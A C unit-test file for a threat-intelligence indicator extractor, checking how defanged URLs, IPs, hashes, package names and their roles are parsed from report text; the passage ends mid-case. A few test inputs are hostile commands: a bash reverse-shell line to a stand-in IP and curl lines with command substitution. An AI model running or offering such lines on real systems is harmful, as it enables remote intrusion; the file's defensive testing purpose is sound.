/* lib/ioc: what is found in a text, with type and value, and how it is judged.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "test/support/ioc_fixture.h"

static void test_urls(void **state)
{
	static const struct text_case cases[] = {
	    {"(hxxps://bad[.]com/a.php).", "url https://bad.com/a.php"},
	    {"[x](hxxps://bad[.]com/a)", "url https://bad.com/a"},
	    {"https://bad.com/about/), bar", "url https://bad.com/about/"},
	    {"https://bad.com/a_(b)_c?d[0]=1",
		"url https://bad.com/a_(b)_c?d[0]=1"},
	    {"https://bad.com/a[Text]", "url https://bad.com/a^"},
	    {"bad.com/abc,False,False", "url bad.com/abc"},
	    {"http://bad.com/1,http://bad.com/2",
		"url http://bad.com/1 | url http://bad.com/2"},
	    {"http://bad.com/x.php?\n", "url http://bad.com/x.php?"},
	    {"http://a:b@bad.com/x", "url http://a:b@bad.com/x"},
	    {"https://[@bad.com/?[a-z0-9]", ""},
	    {"Was it http://bad.com/x? No.", "url http://bad.com/x"},
	    {"**http://bad.com/x**", "url http://bad.com/x"},
	    {"HTTP://BAD.com/Path", "url http://bad.com/Path"},
	    {"http://u:p@bad.com:8080/x", "url http://u:p@bad.com:8080/x"},
	    {"http://[2001:470::9]:81/x", "url http://[2001:470::9]:81/x"},
	    {"http://%62ad.com/x", "url http://bad.com/x"},
	    /* what hides a delimiter is no host; the one behind it is */
	    {"hxxps://good-bank.com%00.bad[.]com/x", "url bad.com/x"},
	    {"hxxp://login.com%2F.bad[.]com/", "domain bad.com"},
	    {"hxxp://victim.com%40bad[.]com/x", "url bad.com/x"},
	    {"hxxp://bad%0a.com/x", ""},
	    {"hxxp://good%EF%BC%8F.bad[.]com/x", ""},
	    {"hxxp://bad[.]comです", "url http://bad.com"},
	    {"https://日本語.jp/x", "url https://xn--wgv71a119e.jp/x"},
	    {"46[.]4[.]5[.]6:8080/x", "url 46.4.5.6:8080/x"},
	    {"http:// https://[redacted] ://", ""},
	    {"hxxps://bad[.]com/a.php, hxxp://bad[.]com/b; end",
		"url https://bad.com/a.php | url http://bad.com/b"},
	    {"\"hxxp://bad[.]com/a\" 'hxxp://bad[.]com/b'",
		"url http://bad.com/a | url http://bad.com/b"},
	    {"「hxxp://bad[.]com/a」、hxxp://bad[.]com/b。",
		"url http://bad.com/a | url http://bad.com/b"},
	    {"`hxxp://bad[.]com/a`|C2|", "url http://bad.com/a"},
	    {"hxxp://bad[.]com/a>next hxxp://bad[.]com/b<br>",
		"url http://bad.com/a | url http://bad.com/b"},
	    {"[hxxp://bad[.]com/a](hxxp://bad[.]com/a)",
		"url http://bad.com/a"},
	    {"hxxp://bad[.]com/~u/!a/@b", "url http://bad.com/~u/!a/@b"},
	    {"bad[.]com:8080/gate.php", "url bad.com:8080/gate.php"},
	    {"http://xn--80ak6aa92e.com/", "url http://xn--80ak6aa92e.com/"},
	    {"http%3A%2F%2Fbad.com%2Fa.php", "url http://bad.com/a.php"},
	    {"u=http%3A%2F%2Fbad.com%2Fa&id=1 %22bad2.com%22",
		"url http://bad.com/a | domain bad2.com?"},
	    {"https://bad.com/?u=http%3A%2F%2Fbad2.com%2Fa",
		"url https://bad.com/?u=http%3A%2F%2Fbad2.com%2Fa"},
	    /* as browsers read it; a pattern's backslash is none */
	    {"http://bad.com\\@other.org/x http://a\\@bad\\.com/x",
		"url http://bad.com/@other.org/x | url http://a@bad.com/x"},
	    {"~~hxxp://bad[.]com/a~~ hxxp://bad[.]com/~",
		"url http://bad.com/a"
		" | url http://bad.com/~"},
	    {"curl http://bad.com/`id` http://bad.com/a$(id) http://bad.com/$A",
		"url http://bad.com/ | url http://bad.com/a | "
		"url http://bad.com/$A"},
	};

	(void)state;
	CHECK(cases);
}

/* What no server has behind its name does not cut the path off. */
static void test_odd_ends(void **state)
{
	static const struct text_case cases[] = {
	    {"hxxp://bad[.]com./x", "url http://bad.com/x"},
	    {"hxxp://bad[.]com.:8080/x", "url http://bad.com:8080/x"},
	    {"hxxp://bad[.]com:/x", "url http://bad.com/x"},
	    {"hxxp://bad[.]com:443443/x", "url http://bad.com/x"},
	    {"hxxp://bad[.]com:port/x", "url http://bad.com/x"},
	    {"hxxp://bad[.]com:{PORT}/x hxxp://bad[.]com:8080a/y",
		"url http://bad.com/x | url http://bad.com/y"},
	    {"bad[.]com:port/x bad[.]net./x bad[.]org:443443/x",
		"url bad.com/x | url bad.net/x | url bad.org/x"},
	    {"bad[.]com:tcp/443 hxxp://bad[.]net:UDP/53",
		"domain bad.com | url http://bad.net"},
	    {"hxxp://bad[.]com. hxxp://bad[.]net: hxxp://bad[.]org:port",
		"url http://bad.com | url http://bad.net | "
		"url http://bad.org"},
	};

	(void)state;
	CHECK(cases);
}

/* What joins two, each defanged, is no part of the first. */
static void test_neighbours(void **state)
{
	static const struct text_case cases[] = {
	    {"45[.]9[.]9[.]9/45[.]9[.]9[.]12",
		"ipv4 45.9.9.9 | ipv4 45.9.9.12"},
	    {"45[.]9[.]9[.]9:80/45[.]9[.]9[.]12:80/45[.]9[.]9[.]13",
		"ipv4 45.9.9.9 | ipv4 45.9.9.12 | ipv4 45.9.9.13"},
	    {"hxxp://bad[.]com/a,bad[.]net",
		"url http://bad.com/a | domain bad.net"},
	    {"hxxp://bad[.]com/a;45[.]9[.]9[.]9;bad[.]org",
		"url http://bad.com/a | ipv4 45.9.9.9 | domain bad.org"},
	    {"45[.]9[.]9[.]9.45[.]9[.]9[.]12.",
		"ipv4 45.9.9.9 | ipv4 45.9.9.12"},
	    /* only the dots within are defanged, and those of both */
	    {"45[.]9[.]9[.]9[.]45[.]9[.]9[.]12", ""},
	    {"45.9.9.8.45.9.9.12", ""},
	    {"45.9.9.9/45[.]9[.]9[.]12", "url 45.9.9.9/45.9.9.12"},
	    /* whom a page imitates, where it leads */
	    {"bad[.]com/www[.]good[.]co[.]jp bad[.]com/index[.]do",
		"url bad.com/www.good.co.jp | url bad.com/index.do"},
	    {"hxxps://bad[.]com/r?u=a,www[.]good[.]jp;good[.]net",
		"url https://bad.com/r?u=a,www.good.jp;good.net"},
	    /* paths and names of files */
	    {"hxxp://bad[.]com/bad[.]net bad[.]com/bad[.]net/x "
	     "bad[.]com/a[.]zip",
		"url http://bad.com/bad.net | url bad.com/bad.net/x | "
		"url bad.com/a.zip"},
	    {"bad[.]com/bad.net hxxp://bad[.]com/a;b[.]zip,c[.]php",
		"url bad.com/bad.net | url http://bad.com/a;b.zip,c.php"},
	    {"45[.]9[.]9[.]9.45[.]9", ""},
	};

	(void)state;
	CHECK(cases);
}

static void test_hosts(void **state)
{
	static const struct text_case cases[] = {
	    {"通信先はbad-site[.]comです。", "domain bad-site.com"},
	    {"BAD.COM and Bad[.]Co[.]Jp", "domain bad.com? | domain bad.co.jp"},
	    {"mail.bad.co.za", "domain mail.bad.co.za"},
	    {"*.bad.com -bad2.com- _bad3.com_",
		"domain bad.com | domain bad2.com | domain bad3.com"},
	    {"m\xc3\xbcnchen-bad[.]de", "domain xn--mnchen-bad-9db.de"},
	    {"bad[.]com-based", "domain bad.com"},
	    {"bad[.]com:443/tcp, bad2[.]com:53/udp",
		"domain bad.com | domain bad2.com"},
	    {"a xn--80ak6aa92e.xn--p1ai, not xn--eda.xn--4ca",
		"domain xn--80ak6aa92e.xn--p1ai"},
	    {"bad[.]com.The bad2[.]com.It's bad3[.]com.A-z bad4[.]com.Br/x",
		"domain bad.com | domain bad2.com | domain bad3.com | "
		"url bad4.com.br/x"},
	    {"hxxps://bad[.]com.The x, a@bad[.]com.So, 45[.]33[.]1[.]2.We",
		"url https://bad.com | email a@bad.com | ipv4 45.33.1.2"},
	    {"Bad[.]Co.Jp BAD[.]COM.BR",
		"domain bad.co.jp | domain bad.com.br"},
	    {"[company_name]-desk.com, {id}-b.com, *-c.com, <a_b>d.com", ""},
	    {"[C2]bad.com [{id}.bad2.com] my_a->bad3.com",
		"domain bad.com | domain bad2.com | domain bad3.com"},
	    {"It backed Idealist, Bad.net, Heliograph and Authors.",
		"domain bad.net?"},
	    {"Bad.net,Bad2.net", "domain bad.net | domain bad2.net"},
	    {"Block *.workers[.]dev and bad.workers[.]dev.",
		"domain workers.dev? | domain bad.workers.dev"},
	    {"C2\nworkers[.]dev\n", "domain workers.dev"},
	    {"bad.com:8443", "domain bad.com"},
	    {"update[.]zip", "domain update.zip"},
	    {"\nstore.bad.app\n", "domain store.bad.app"},
	    {"it is microsoft.bad-a.ru or java.bad.com and com.bad-b.ru now",
		"domain microsoft.bad-a.ru | domain java.bad.com | "
		"domain com.bad-b.ru"},
	    {"it is app.bad-a.online and system.bad.cn now",
		"domain app.bad-a.online | domain system.bad.cn"},
	    {"wallet.bit", "domain wallet.bit"},
	    {"6nhmgdpnyoljh5uzr5kwlatx2u3diou4ldeommfxjz3wkhalzgjqxzqd.onion",
		"onion 6nhmgdpnyoljh5uzr5kwlatx2u3diou4ldeommfxjz3wkhalzgjqxzqd"
		".onion"},
	    {"user[@]bad[.]com", "email user@bad.com"},
	    {"First.Last+tag@mail.bad.com,",
		"email first.last+tag@mail.bad.com"},
	};

	(void)state;
	CHECK(cases);
}

static void test_no_hosts(void **state)
{
	static const struct text_case cases[] = {
	    {"It runs update.zip, setup.py and main.rs now.",
		"filename update.zip | filename setup.py | filename main.rs"},
	    {"System.Net.Http and System.Net", ""},
	    {"the file x.cab", "filename x.cab"},
	    {"applications. To shotput", ""},
	    {"uses com.android.systemui here", "package com.android.systemui"},
	    {"detected as Korplug.PW and SSHDoor.AI", ""},
	    {"of our authors.So we said Inc.to them", ""},
	    {"word a.m.to and 2.0.to and e.g.in", ""},
	    {"this.name document.link f.read", ""},
	    {"a this.user.id is self.app.io or window.location.host and "
	     "System.Net.Com here",
		""},
	    {"xxx.xxx.xxx.xxx", ""},
	    {"see section 2.h and U.S.C. here", ""},
	    {"report_my.com", ""},
	    {"ASP.NET, Node.js", "filename node.js?"},
	    {"a..com ... .com", ""},
	    {"@ @@ a@ @b a@b", ""},
	};

	(void)state;
	CHECK(cases);
}

static void test_addresses(void **state)
{
	static const struct text_case cases[] = {
	    {"45.33.1.2", "ipv4 45.33.1.2"},
	    {"45[.]33[.]1[.]2:443", "ipv4 45.33.1.2"},
	    {"45.33.1.2|443", "ipv4 45.33.1.2"},
	    {"45.33.1.2/999 45.33.1.2:443/tcp 45.33.1.2/tcp.",
		"ipv4 45.33.1.2"},
	    {"45.33.1.2:81/33", "url 45.33.1.2:81/33"},
	    {"bash -i >& /dev/tcp/45.33.1.2/443; exec 5<>/dev/udp/bad.com/53",
		"ipv4 45.33.1.2 | domain bad.com"},
	    {"/dev/tcp/$IP/443", "filepath /dev/tcp/$IP/443"},
	    {"IPv6:2001:470::9 std::a::b1 boost::asio::f0a::1",
		"ipv6 2001:470::9"},
	    {"45.33.1.2-45.33.1.9", "ipv4 45.33.1.2 | ipv4 45.33.1.9"},
	    {"45.33.0.0/16", "cidr 45.33.0.0/16"},
	    {"45.33.0[.]0[/]16", "cidr 45.33.0.0/16"},
	    {"version 45.33.1.2, 45.33.1.2 and earlier", ""},
	    {"Browser/45.33.1.2 v45.33.1.2 45.33.1.2-3 45.33.1.256", ""},
	    {"1.2.3.4.5 01.2.3.4 2.5.29 45.033.1.2 45.33.01.2 45.33.1.00", ""},
	    {"45.33.0.0/32 45.33.0.0/33 2001:470::/128 2001:470::/129",
		"cidr 45.33.0.0/32 | ipv4 45.33.0.0 | cidr 2001:470::/128 | "
		"ipv6 2001:470::"},
	    {"Starting with NetGate 14.1.47.46 and 13.1.59.19, the policy", ""},
	    {"versions 14.1.47.46, 13.1.59.19 or 12.1.5.3", ""},
	    {"connects to 14.1.47.46 and 13.1.59.19",
		"ipv4 14.1.47.46 | ipv4 13.1.59.19"},
	    {"バージョン７．２．１１．１が影響を受ける。", ""},
	    {"脆弱なOpenSSL ３．０．１２．１、第１．２．３．４項", ""},
	    {"通信先はIP 5.4.3.2と２００．１．２．３です",
		"ipv4 5.4.3.2 | ipv4 200.1.2.3"},
	    {"version 10.0.0.1, upgrade to 7.4.2.11; fixed in 7.4.2.12", ""},
	    {"bad[.]com|45.33.1.2,True", "domain bad.com | ipv4 45.33.1.2"},
	    {"45.33.1.2,443", "ipv4 45.33.1.2"},
	    {"hxxp[://]45[.]33[.]1[.]2[:]81/a", "url http://45.33.1.2:81/a"},
	    {"10.1.2.3 8.8.8.8 198.51.100.1",
		"ipv4 10.1.2.3? | ipv4 8.8.8.8? | ipv4 198.51.100.1?"},
	    {"2001:0470:0000::0001", "ipv6 2001:470::1"},
	    {"2001[:]470[:]1::7", "ipv6 2001:470:1::7"},
	    {"[2001:470::9]:443", "ipv6 2001:470::9"},
	    {"2001:470::/32", "cidr 2001:470::/32"},
	    {"95:f0:9e:11:22:33:44:55 std::dec a::b 12:30:45 ::", ""},
	    {"serial 01:23:45:67:89:ab:cd:ef, 12:30:45.123", ""},
	    {"00:1A:2b:3c:4d:5e 00-1A-2b-3c-4d-5f",
		"mac 00:1a:2b:3c:4d:5e | mac 00:1a:2b:3c:4d:5f"},
	};

	(void)state;
	CHECK(cases);
}

static void test_hashes(void **state)
{
	static const struct text_case cases[] = {
	    {"5d41402abc4b2a76b9719d911017c592",
		"md5 5d41402abc4b2a76b9719d911017c592"},
	    {"5d41402abc4b2a76b9719d911017c592. The",
		"md5 "
		"5d41402abc4b2a76b9719d911017c592"},
	    {"5d41402abc4b2a76b9719d911017c592.The "
	     "5d41402abc4b2a76b9719d911017c5"
	     "93- 5d41402abc4b2a76b9719d911017c594.a",
		"md5 5d41402abc4b2a76b9719d911017c592 | md5 "
		"5d41402abc4b2a76b9719d911017c593"},
	    {"AAF4C61DDCC5E8A2DABEDE0F3B482CD9AEA9434D,",
		"sha1 aaf4c61ddcc5e8a2dabede0f3b482cd9aea9434d"},
	    {"aaf4c61ddcc5e8a2dabede0f3b\n482cd9aea9434d x",
		"sha1 aaf4c61ddcc5e8a2dabede0f3b482cd9aea9434d"},
	    {"SHA-256: 2cf24dba5fb0a30e26e83b2ac5b9e29e\n"
	     "1b161e5c1fa7425e73043362938b9824",
		"sha256 2cf24dba5fb0a30e26e83b2ac5b9e29e"
		"1b161e5c1fa7425e73043362938b9824"},
	    {"d41d8cd98f00b204e9800998ecf8427e",
		"md5 d41d8cd98f00b204e9800998ecf8427e?"},
	    {"00000000000000000000000000000000", ""},
	    {"5d41402abc4b2a76b9719d911017c5921", ""},
	    {"f27f4ef8-e729-4b5d-b095-2a405cb3380d", ""},
	    {"{F27F4EF8-E729-4B5D-B095-2A405CB3380D}", ""},
	    {"5d41402abc4b2a76b97<wbr>19d911017c592",
		"md5 5d41402abc4b2a76b9719d911017c592"},
	    {"5d41402abc4b2a76\xe2\x80\x8b"
	     "b9719d911017c592",
		"md5 5d41402abc4b2a76b9719d911017c592"},
	    {"5d41402abc4b2a76b9719d911017c592.exe",
		"md5 5d41402abc4b2a76b9719d911017c592 | "
		"filename 5d41402abc4b2a76b9719d911017c592.exe"},
	    {"3072:AbCdEfGhIjKlMnOp:QrStUvWxYz", "ssdeep "
						 "3072:AbCdEfGhIjKlMnOp:"
						 "QrStUvWxYz"},
	};

	(void)state;
	CHECK(cases);
}

static void test_identifiers(void **state)
{
	static const struct text_case cases[] = {
	    {"cve-2026-1234 CVE-2025-12345、CVE_2024_1000.",
		"cve CVE-2026-1234 | cve CVE-2025-12345 | cve CVE-2024-1000"},
	    {"CVE-2026-12 CVE-2026-123x", ""},
	    {"T1059.001 and T1566; T9999 T-1000 T1000",
		"attack-technique T1059.001 | attack-technique T1566"},
	    {"AS64500 AS 64501 ASN: 64502 AS400 AS2",
		"asn AS64500 | asn AS64501 | asn AS64502"},
	    {"1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 "
	     "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3",
		"btc 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2"},
	    {"1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2.",
		"btc 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2"},
	    {"AS64500. AS64501- AS 64502. AS64503_ AS64504.5 AS64505-x",
		"asn AS64500 | asn AS64501 | asn AS64502 | asn AS64503"},
	    {"0x52908400098527886E0F7030069857D2E4169EE7_",
		"eth 0x52908400098527886E0F7030069857D2E4169EE7"},
	    {"00-11-22-33-44-55. 00-11-22-33-44-66-",
		"mac 00:11:22:33:44:55 | mac 00:11:22:33:44:66"},
	    {"user_@bad.com", "email user_@bad.com"},
	    {"bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq "
	     "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdr",
		"btc bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"},
	    {"bc1p5cyxnuxmeuwuvkwfem96lqzszd02n6xdcjrs20cac6yqjjwudpxqkedrcr",
		"btc bc1p5cyxnuxmeuwuvkwfem96lqzszd02n6xdcjrs20cac6yqjjwudpxq"
		"kedrcr"},
	    {"0x52908400098527886E0F7030069857D2E4169EE7",
		"eth 0x52908400098527886E0F7030069857D2E4169EE7"},
	    {"HKLM\\Software\\Big Name\\Run and HKCU\\Software\\X\\",
		"regkey hkey_local_machine\\software\\big name\\run | "
		"regkey hkey_current_user\\software\\x"},
	    {"C:\\Program Files\\X\\a.exe, %TEMP%\\b.dll \\\\srv\\share\\c",
		"filepath c:\\program files\\x\\a.exe | filepath "
		"%temp%\\b.dll | filepath \\\\srv\\share\\c"},
	    {"runs /tmp/.x/a and ~/.ssh/id, not and/or",
		"filepath /tmp/.x/a | filepath ~/.ssh/id"},
	    {"rule Loader_One : apt { strings: }", "yara-rule Loader_One"},
	    {"the rule is clear", ""},
	    {"npm install @scope/left-pad2@1.2.3", "package @scope/left-pad2"},
	};

	(void)state;
	CHECK(cases);
}

static void test_packages(void **state)
{
	static const struct text_case cases[] = {
	    {"We found the npm package foo-bar.", "package foo-bar"},
	    {"the malicious npm package \"colorslib\" steals",
		"package colorslib"},
	    {"PyPI packages: requestz, numpyy and pandaz. They steal",
		"package requestz | package numpyy | package pandaz"},
	    {"npm packages `a-lib` (1.0.2), `b_lib` and `c2lib`",
		"package a-lib | package b_lib | package c2lib"},
	    {"and the PyPI packages\n`reqz` (1.0.2),\n`numpyy` and\n`selz`.",
		"package reqz | package numpyy | package selz"},
	    {"the npm package @scope/name@1.2.3 and", "package @scope/name"},
	    {"npmパッケージ「foo-bar」と「baz」",
		"package foo-bar | package baz"},
	    {"PyPIパッケージ「foolib」「barlib」および「bazlib」が",
		"package foolib | package barlib | package bazlib"},
	    {"悪意のあるnpmパッケージ foo-bar が公開", "package foo-bar"},
	    {"VS Code extension evil-pub.dark-theme",
		"package evil-pub.dark-theme+"},
	    {"VS Code extensions: pub.one, pub.two",
		"package pub.one+ | package pub.two+"},
	    {"the NuGet package `Evil.Json.Tool`", "package Evil.Json.Tool"},
	    {"the Go module github.com/evil/boltdb-go",
		"package github.com/evil/boltdb-go"},
	    {"PyPI packages evil-requests, which steal",
		"package evil-requests"},
	    {"rust crate faster_log", "package faster_log"},
	    {"Ruby gems: fastlane-plugin-x, net-sshh",
		"package fastlane-plugin-x | package net-sshh"},
	    {"malicious packages:\n- evil-a\n- evilb\n- evil-c (1.2.3)\n\nMore",
		"package evil-a | package evilb | package evil-c"},
	    {"The two packages are still live on RubyGems under these names:\n"
	     "\n* evil-a: has 287 downloads\n* evilb (1.2, 1.3)\n\nMore",
		"package evil-a | package evilb"},
	    {"Besides, packages were compromised in the same attack:\n\n"
	     "- eviltool\n",
		"package eviltool"},
	    {"PyPI packages:\r\n- evila\r\n- evilb\r\n",
		"package evila | package evilb"},
	    {"npmパッケージは、「foolib」です", "package foolib"},
	    {"npmパッケージtheft-bar", "package theft-bar"},
	    {"npm packages published as a-lib and b-lib",
		"package a-lib | package b-lib"},
	    {"## Malicious packages\n\n| Package | Version |\n| --- | --- |\n"
	     "| evilone | 1.2.3 |\n| evil-two | 1.0 |\n\n## Next\n- other\n",
		"package evilone | package evil-two"},
	    {"## 悪意のあるパッケージ\n\n- evilone\n- evil-two (1.0.0)\n- "
	     "文です\n",
		"package evilone | package evil-two"},
	    {"the identifier pgfkcmdhnolaeibjpgfkcmdhnolaeibj of it",
		"package pgfkcmdhnolaeibjpgfkcmdhnolaeibj+"},
	    {"it looks for nkbihfbeogaeaoehlefnkodbefgpgknn",
		"package nkbihfbeogaeaoehlefnkodbefgpgknn?+"},
	    {"## Malicious extensions\n\n- evilpub.dark-theme\n- icons2\n",
		"package evilpub.dark-theme+ | package icons2+"},
	    {"VS Codeの拡張機能「badpub.theme」", "package badpub.theme+"},
	    {"Malicious VS Code extensions on the marketplace: pub.one, "
	     "pub.two",
		"package pub.one+ | package pub.two+"},
	    {"NuGet packages: Evil.Json.Net, EvilNet.Tools",
		"package Evil.Json.Net | package EvilNet.Tools"},
	    {"悪意のあるVS Code拡張機能「evilpub.theme」",
		"package evilpub.theme+"},
	};

	(void)state;
	CHECK(cases);
}

static void test_no_packages(void **state)
{
	static const struct text_case cases[] = {
	    {"They reserved extensions to prevent malicious exploitation:\n\n"
	     "* good.one1\n",
		""},
	    {"Legitimate npm packages that it needs:\n\n* good-one\n", ""},
	    {"The package on npm does this:\n\n* good-one\n", ""},
	    {"the npm package manager and npm packages that steal", ""},
	    {"the popular npm package cross-env; mimics the npm package axi-os",
		""},
	    {"正規のnpmパッケージ「lodash」", ""},
	    {"npm packages open-source developers use", ""},
	    {"an attack on npm packages with 2 billion downloads", ""},
	    {"the malicious extension is installed, python module os.path", ""},
	    {"the malicious library libfoo.so", "filename libfoo.so"},
	    {"our library foo-bar and its package a-b", ""},
	    {"a package of measures, PyPI package 1.2.3", ""},
	    {"aaaabbbbccccddddeeeeffffaaaabbbb", ""},
	    {"pppppppppppppppppppppppppppppppp", ""},
	};

	(void)state;
	CHECK(cases);
}

static void test_judgement(void **state)
{
	static const struct text_case cases[] = {
	    /* the author defangs: what is not defanged is a reference */
	    {"See https://blog.site.com/post about bad[.]com now.",
		"url https://blog.site.com/post? | domain bad.com"},
	    {"Domains:\n\nother-bad.com\nbad[.]com\n",
		"domain other-bad.com | domain bad.com"},
	    {"https://www.virustotal.com/gui/x and "
	     "https://krebsonsecurity.com/",
		"url https://www.virustotal.com/gui/x^ | "
		"url https://krebsonsecurity.com/?"},
	    {"https://github.com/ and https://github.com/bad/repo",
		"url https://github.com/? | url https://github.com/bad/repo"},
	    {"it asked bad.github.io and github.io",
		"domain bad.github.io | domain github.io?"},
	    {"virustotal[.]com", "domain virustotal.com"},
	    {"at virustotal.com", "domain virustotal.com?"},
	    {"scan@virustotal.com", "email scan@virustotal.com?"},
	    {"References:\n\nhttps://hunter.com/\n",
		"url https://hunter.com/?"},
	    /* a page that is cited is not known to be good; its host alone,
	     * and a vendor's page, are */
	    {"References:\n\nhttps://x.com/hunter/status/1\nhunter.com\n"
	     "https://www.kaspersky.com/blog/a\nhxxp://bad[.]com/a\n",
		"url https://x.com/hunter/status/1^ | domain hunter.com? | "
		"url https://www.kaspersky.com/blog/a? | url http://bad.com/a"},
	    {"someone@gmail.com and press@kaspersky.com",
		"email someone@gmail.com | email press@kaspersky.com?"},
	    {"www.example.com notexample.com",
		"domain www.example.com? | domain notexample.com"},
	    {"a[.]bad.com or http://6nhmgdpnyoljh5uz.onion/x now",
		"domain a.bad.com | url http://6nhmgdpnyoljh5uz.onion/x | "
		"onion 6nhmgdpnyoljh5uz.onion"},
	    {"# References\n\nhttps://some.blog.com/post\n",
		"url https://some.blog.com/post^"},
	    {"Reference: https://some.blog.com/post",
		"url https://some.blog.com/post^"},
	    {"Shopping.com said that its site shopping.com was down.",
		"domain shopping.com"},
	    {"a spokesman of Parcels.com told us", "domain parcels.com?"},
	    {"admin.microsoft.com, forms.microsoft.com/x, cs.some.edu",
		"domain admin.microsoft.com? | url forms.microsoft.com/x | "
		"domain cs.some.edu?"},
	    {"the host dns.google and example.onion", "domain dns.google?"},
	    {"the file svchost.exe and svchosts.exe",
		"filename svchost.exe? | filename svchosts.exe"},
	    {"C:\\Windows\\System32\\cmd.exe and /usr/bin/curl ran",
		"filepath c:\\windows\\system32\\cmd.exe? | "
		"filepath /usr/bin/curl?"},
	    {"C:\\Windows\\System32\\cmd[.]exe",
		"filepath c:\\windows\\system32\\cmd.exe?"},
	    {"C:\\Users\\Public\\cmd.exe ran",
		"filepath c:\\users\\public\\cmd.exe"},
	};

	(void)state;
	CHECK(cases);
}

static void test_source(void **state)
{
	const char *urls[] = {"https://partner.com/page?utm_source=x"};
	const struct strings links = {urls, 1, 1};
	const struct ioc_source source = {"https://news.site.co.jp/1", &links};
	struct arena *a = arena_new();

	(void)state;
	assert_string_equal(
	    ioc_found(a,
		"https://www.site.co.jp/2 https://partner.com/page bad.com",
		&source),
	    "url https://www.site.co.jp/2? | url https://partner.com/page? | "
	    "domain bad.com");
	assert_string_equal(
	    ioc_found(a, "# IOCs\n\nhttps://partner.com/page\n", &source),
	    "url https://partner.com/page");
	arena_free(a);
}

/* Where others have their pages, only its own folder or name is the article's;
 * no public suffix is anyone's. */
static void test_platform(void **state)
{
	static const struct {
		const char *url, *text, *want;
	} cases[] = {
	    {"https://github.com/org/advisory",
		"github.com/bad/a.ps1 https://github.com/Org/x "
		"https://gist.github.com/bad/1 https://github.com/organ/x",
		"url github.com/bad/a.ps1 | url https://github.com/Org/x? | "
		"url https://gist.github.com/bad/1 | "
		"url https://github.com/organ/x"},
	    {"https://lab.medium.com/1",
		"https://lab.medium.com/2 https://bad.medium.com/2",
		"url https://lab.medium.com/2? | url https://bad.medium.com/2"},
	    {"https://github.io/1", "bad.github.io/2 github.io/3",
		"url bad.github.io/2 | url github.io/3"},
	};
	struct arena *a = arena_new();
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const struct ioc_source source = {cases[i].url, NULL};

		assert_string_equal(
		    ioc_found(a, cases[i].text, &source), cases[i].want);
	}
	arena_free(a);
}

static void test_members(void **state)
{
	static const char text[] =
	    "First sentence. It calls bad[.]com twice: bad.com! Then more.\n"
	    "## \xe9\x80\x9a\xe4\xbf\xa1\xe5\x85\x88\n| 45.33.1.2 | C2 |\n";
	struct arena *a = arena_new();
	struct indicators out;

	(void)state;
	ioc_extract(a, text, strlen(text), known, NULL, &out);
	assert_int_equal(out.n, 2);
	assert_string_equal(out.v[0].value, "bad.com");
	assert_int_equal(out.v[0].count, 2);
	assert_int_equal(out.v[0].offset, strstr(text, "bad[.]com") - text);
	assert_true(out.v[0].defanged);
	assert_false(out.v[0].listed);
	assert_string_equal(
	    out.v[0].context, "It calls bad[.]com twice: bad.com!");
	assert_true(out.v[1].listed);
	assert_false(out.v[1].defanged);
	assert_string_equal(out.v[1].context, "| 45.33.1.2 | C2 |");
	arena_free(a);
}

/* Under a heading for indicators who is merely named in a sentence is not
 * listed, wherever else he is named; what is defanged there is. */
static void prose_lists_nothing(void **state)
{
	static const char text[] =
	    "## Indicators of compromise\n\n"
	    "Ask us at good-one.com first: late-one.com and bad-two[.]com.\n"
	    "- bad-one.com\n- late-one.com: C2 server\n\n"
	    "| 45.33.1.2 | C2 |\n\n"
	    "Then see https://good-one.com/trial for a trial of it.\n";
	static const struct {
		const char *value;
		bool listed;
	} want[] = {
	    {"good-one.com", false},
	    {"late-one.com", true},
	    {"bad-two.com", true},
	    {"bad-one.com", true},
	    {"45.33.1.2", true},
	    {"https://good-one.com/trial", false},
	};
	struct arena *a = arena_new();
	struct indicators out;
	size_t i;

	(void)state;
	ioc_extract(a, text, strlen(text), known, NULL, &out);
	assert_int_equal(out.n, sizeof(want) / sizeof(want[0]));
	for (i = 0; i < out.n; i++) {
		assert_string_equal(out.v[i].value, want[i].value);
		assert_int_equal(out.v[i].listed, want[i].listed);
	}
	arena_free(a);
}

/* "value place role near" of each, joined by " | ". */
static char *settings(struct arena *a, const char *text)
{
	struct indicators out;
	struct buf b = {0};
	char *all;
	size_t i;

	ioc_extract(a, text, strlen(text), known, NULL, &out);
	for (i = 0; i < out.n; i++) {
		const struct indicator *ind = &out.v[i];
		const char *role = indicator_role_name(ind->role);

		buf_printf(&b, "%s%s %s %s %s", i > 0 ? " | " : "", ind->value,
		    indicator_place_name(ind->place), role ? role : "-",
		    ind->near != NULL ? ind->near : "-");
	}
	all = arena_strdup(a, buf_str(&b));
	buf_free(&b);
	return all;
}

static void test_setting(void **state)
{
	static const struct text_case cases[] = {
	    {"Lumma Stealer talks to its C2 server at bad[.]com daily.",
		"bad.com prose c2 Lumma Stealer"},
	    {"It was downloaded from hxxp://bad[.]com/a by APT29.",
		"http://bad.com/a prose download APT29"},
	    {"C2サーバ bad[.]com と通信する。フィッシングサイトは b[.]com だ。",
		"bad.com prose c2 - | b.com prose phishing -"},
	    {"## C2サーバ\n\n- bad[.]com\n- 45[.]33[.]1[.]2\n",
		"bad.com list c2 - | 45.33.1.2 list c2 -"},
	    {"Emotet C2:\nbad[.]com\n\nExfiltration:\n1. b[.]com\n",
		"bad.com list c2 Emotet | b.com list exfiltration -"},
	    {"| bad[.]com | C2 |\n| b[.]com | Phishing page |\n",
		"bad.com table c2 - | b.com table phishing -"},
	    {"bad[.]com,C2,x\nb[.]com,download,y\n",
		"bad.com table c2 - | b.com table download -"},
	    {"```\ncurl hxxp://bad[.]com/x\n```\nand b[.]com too",
		"http://bad.com/x code - - | b.com prose - -"},
	    {"### Indicators bad[.]com\n", "bad.com heading - -"},
	    /* what its own address is made of says nothing of it */
	    {"see hxxp://bad[.]com/download/c2/phish now",
